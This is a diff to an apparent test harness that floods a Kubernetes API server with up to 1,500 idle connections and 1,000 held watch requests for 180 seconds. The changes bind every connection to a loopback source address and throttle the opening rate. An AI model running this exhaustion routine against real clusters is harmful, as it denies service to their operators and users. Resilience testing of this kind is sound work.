@@ -27,8 +27,10 @@ from urllib.parse import quote, urlsplit
 NAMESPACE = "attacker"
 #: Seconds after which an attack ends by itself.
 LONGEST = 180.0
-#: Connections that hold nothing, and watches of one identity.
-IDLE, WATCHES = 1_500, 1_000
+#: The attacker's own address.
+ADDRESS = ("127.0.0.66", 0)
+#: Connections that hold nothing, how many of them are opened a second, and watches of one identity.
+IDLE, OPENED, WATCHES = 1_500, 500, 1_000
 #: The class of `cases.cluster`.
 CLASS = "gpu.example.com"
 GROUP = "/apis/resource.k8s.io/v1"
@@ -80,9 +82,9 @@ class Client:
         place = urlsplit(self._target.web if self._page else self._target.api)
         host, port = place.hostname or "", place.port
         if self._page:
-            return http.client.HTTPConnection(host, port, timeout=self._timeout)
+            return http.client.HTTPConnection(host, port, timeout=self._timeout, source_address=ADDRESS)
         trusted = ssl.create_default_context(cafile=self._target.authority)
-        return http.client.HTTPSConnection(host, port, timeout=self._timeout, context=trusted)
+        return http.client.HTTPSConnection(host, port, timeout=self._timeout, context=trusted, source_address=ADDRESS)
 
 
 def objects(resource: str, group: str = "/api/v1") -> str:
@@ -152,11 +154,13 @@ def _idle_connections(target: Target) -> None:
     held: list[socket.socket] = []
     end = time.monotonic() + LONGEST
     while time.monotonic() < end:
-        while len(held) < IDLE:
+        while len(held) < IDLE and time.monotonic() < end:
             with suppress(OSError):
-                held.append(socket.create_connection((place.hostname or "", place.port or 443), timeout=1))
+                to = (place.hostname or "", place.port or 443)
+                held.append(socket.create_connection(to, timeout=1, source_address=ADDRESS))
                 held[-1].setblocking(False)
                 ANSWERS["opened"] += 1
+            time.sleep(1 / OPENED)
         for one in list(held):
             with suppress(BlockingIOError):
                 try:
@@ -180,7 +184,8 @@ def _watches(target: Target) -> None:
     end = time.monotonic() + LONGEST
     while time.monotonic() < end and len(held) < WATCHES:
         try:
-            plain = socket.create_connection((place.hostname or "", place.port or 443), timeout=10)
+            to = (place.hostname or "", place.port or 443)
+            plain = socket.create_connection(to, timeout=10, source_address=ADDRESS)
             one = trusted.wrap_socket(plain, server_hostname=place.hostname)
             one.sendall(head.encode())
             held.append(one)
